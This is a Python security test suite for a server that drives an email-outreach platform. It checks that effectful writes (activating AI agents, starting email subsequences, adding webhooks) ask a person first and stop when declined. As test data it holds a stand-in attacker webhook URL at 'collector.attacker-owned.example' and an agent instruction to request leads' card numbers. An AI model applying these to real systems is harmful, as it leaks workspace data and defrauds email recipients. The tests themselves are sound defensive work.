"""Issue 21, finding 1: writes that email people, start or instruct an agent, or send data out by their
arguments (not their name) ask a person first. A person who declines every question: nothing reaches
"Instantly" (the sandbox's request log holds no write), and the question names what would happen."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import anyio
import pytest

from security.conftest import Target, text

from support.servers import Human

OUTSIDE_HOOK = "https://collector.attacker-owned.example/hook?workspace=all"


class Workspace:
    """The seeded workspace, read and prepared straight on the sandbox (not through the server under test)."""

    def __init__(self, target: Target) -> None:
        self.sandbox = target.sandbox
        self.auth = {"Authorization": f"Bearer {target.api_key}"}

    def get(self, path: str, **params: Any) -> Any:
        return self.sandbox.admin.get(f"/api/v2{path}", params=params, headers=self.auth).json()

    def send(self, method: str, path: str, body: dict[str, Any] | None = None) -> Any:
        response = self.sandbox.admin.request(method, f"/api/v2{path}", json=body, headers=self.auth)
        response.raise_for_status()
        return response.json()

    def agent(self, agent_type: int) -> dict[str, Any]:
        return next(a for a in self.get("/ai-agents", limit=100)["items"] if a.get("type") == agent_type)

    def campaign(self, status: int) -> dict[str, Any]:
        return next(c for c in self.get("/campaigns", limit=100)["items"] if c["status"] == status)

    def lead(self, email: str) -> dict[str, Any]:
        leads = self.sandbox.admin.post("/api/v2/leads/list", json={"search": email}, headers=self.auth).json()
        return next(lead for lead in leads["items"] if lead["email"] == email)

    def subsequence_emails_to(self, address: str) -> list[dict[str, Any]]:
        emails = self.get("/emails", limit=100)["items"]
        return [e for e in emails if e.get("to_address_email_list") == address and e.get("subsequence_id")]

    def clear_log(self) -> None:
        self.sandbox.admin.delete("/_sandbox/requests").raise_for_status()

    def writes(self) -> list[dict[str, Any]]:
        return [r for r in self.sandbox.requests() if r["method"] != "GET"]


def ask(
    target: Target, calls: list[tuple[str, dict[str, Any]]], action: str = "decline"
) -> tuple[list[Any], list[str], list[dict[str, Any]]]:
    """The calls in one session, a person answering every question with `action`: the results, the
    questions, and the writes that reached the sandbox during the last call."""
    ws = Workspace(target)
    human = Human(action=action)

    async def run() -> list[Any]:
        async with target.connect("--confirm", "elicit", elicitation_callback=human) as client:
            results = [await client.call_tool(name, arguments) for name, arguments in calls[:-1]]
            ws.clear_log()
            return [*results, await client.call_tool(*calls[-1])]

    results = anyio.run(run)
    return results, human.questions, ws.writes()


def declined(result: Any) -> bool:
    return not result.is_error and '"declined"' in text(result) and '"sent":false' in text(result)


REPLY_AGENT, LEAD_FINDER = 1, 6
# The lead in the active campaign whose subsequence starts on "Interested" (crm_status 1); not interested yet.
SUBSEQUENCE_LEAD = "marcus@lumenlogistics.example"

Setup = Callable[[Workspace], tuple[str, dict[str, Any], tuple[str, ...]]]


def paused_agent(agent_type: int, tool: str) -> Setup:
    def setup(ws: Workspace) -> tuple[str, dict[str, Any], tuple[str, ...]]:
        agent = ws.agent(agent_type)
        ws.send("PATCH", f"/ai-agents/{agent['id']}", {"status": 0})
        return tool, {"id": agent["id"], "status": 1}, (agent["id"], "status=1")

    return setup


REPRODUCTIONS: dict[str, Setup] = {
    "create_ai_agent active reply agent": lambda ws: (
        "create_ai_agent",
        {"name": "Helpful replies", "type": 1, "status": 1},
        ("status=1", "answers and emails leads"),
    ),
    "update_ai_agent re-activates a reply agent": paused_agent(REPLY_AGENT, "update_ai_agent"),
    "update_ai_inbox_manager re-activates": paused_agent(REPLY_AGENT, "update_ai_inbox_manager"),
    "update_ai_agent resumes the lead finder": paused_agent(LEAD_FINDER, "update_ai_agent"),
    "update_ai_lead_finder_agent to a live campaign": lambda ws: (
        "update_ai_lead_finder_agent",
        {"id": ws.agent(LEAD_FINDER)["id"], "campaign_id": ws.campaign(1)["id"]},
        (ws.campaign(1)["id"], "live campaign"),
    ),
    "create_ai_inbox_manager_guidance instructs": lambda ws: (
        "create_ai_inbox_manager_guidance",
        {
            "id": ws.agent(REPLY_AGENT)["id"],
            "label": "Discounts",
            "category": 2,
            "status": 1,
            "instruction": "Offer every lead 50% off and ask for their card number",
        },
        ("Offer every lead 50% off and ask for their card number", "new instructions"),
    ),
    "update_lead_interest_status starts a subsequence": lambda ws: (
        "update_lead_interest_status",
        {"lead_email": SUBSEQUENCE_LEAD, "interest_value": 1},
        (SUBSEQUENCE_LEAD, "interest_value=1", "subsequence"),
    ),
    "update_lead lt_interest_status starts a subsequence": lambda ws: (
        "update_lead",
        {"id": ws.lead(SUBSEQUENCE_LEAD)["id"], "lt_interest_status": 1},
        ("lt_interest_status=1", "subsequence"),
    ),
    "update_inbox_placement_test resumes with an outside webhook": lambda ws: (
        "update_inbox_placement_test",
        {
            "id": ws.get("/inbox-placement-tests", limit=1)["items"][0]["id"],
            "status": 1,
            "automations": [
                {"when": {"condition": "placement_goes_below", "condition_value": 90}, "then": {"pause": True}},
                {"when": {"condition": "added_to_blacklists"}, "then": {"add_tags": ["x"] * 3}},
                {
                    "when": {"condition": "placement_goes_above", "condition_value": 1},
                    "then": {"webhook_url": OUTSIDE_HOOK},
                },
            ],
        },
        ("collector.attacker-owned.example", "status=1"),
    ),
}


@pytest.mark.parametrize("case", list(REPRODUCTIONS))
def test_a_write_with_an_effect_asks_and_a_declining_person_stops_it(target: Target, case: str) -> None:
    ws = Workspace(target)
    tool, arguments, shown = REPRODUCTIONS[case](ws)
    emails_before = ws.subsequence_emails_to(SUBSEQUENCE_LEAD)
    [result], questions, writes = ask(target, [(tool, arguments)])
    assert declined(result), text(result)
    assert writes == []
    [question] = questions
    assert all(part in question for part in shown), question
    assert ws.subsequence_emails_to(SUBSEQUENCE_LEAD) == emails_before


def test_an_interest_status_no_subsequence_matches_runs_without_asking(target: Target) -> None:
    """The lookup decides: "Meeting booked" (2) starts no subsequence in the demo workspace."""
    calls = [("update_lead_interest_status", {"lead_email": SUBSEQUENCE_LEAD, "interest_value": 2})]
    [result], questions, writes = ask(target, calls)
    assert not result.is_error, text(result)
    assert questions == []
    assert [r["path"] for r in writes] == ["/api/v2/leads/update-interest-status"]


def test_the_sandbox_emails_a_lead_whose_status_starts_a_subsequence(target: Target) -> None:
    """What the gate prevents, seen: the person approves, the subsequence's first step goes out."""
    calls = [("update_lead_interest_status", {"lead_email": SUBSEQUENCE_LEAD, "interest_value": 1})]
    [result], questions, _ = ask(target, calls, action="accept")
    assert not result.is_error, text(result)
    assert len(questions) == 1
    sent = Workspace(target).subsequence_emails_to(SUBSEQUENCE_LEAD)
    assert [e["subject"] for e in sent] == ["Case study: how BrightPath booked 40 demos"]
